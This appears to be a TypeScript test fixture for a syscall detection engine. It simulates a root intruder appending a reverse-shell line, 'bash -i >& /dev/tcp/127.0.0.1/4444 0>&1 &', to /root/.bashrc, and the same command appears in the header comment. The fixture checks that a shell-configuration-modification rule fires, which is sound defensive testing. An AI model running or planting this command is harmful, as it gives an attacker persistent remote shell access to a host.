/**
 * event-generator ModifyShellConfigurationFile: a root intruder on the node
 * makes every future root login reconnect to them
 * (`echo 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &' | tee -a /root/.bashrc`).
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { hostSession } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco-incubating_rules.yaml', rule: 'Modify Shell Configuration File' },
  tiercel: ['Shell Configuration File Modified'],
};

export default function build(s: Scenario): void {
  const { shell } = hostSession(s);
  const tee = shell.spawn({ exe: 'tee', exepath: '/usr/bin/tee', args: ['-a', '/root/.bashrc'] });
  const fd = tee.open('/root/.bashrc', { flags: 0o1 | 0o2000, create: true });
  tee.write(fd, 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &\n');
  tee.close(fd);
  tee.exit();
}
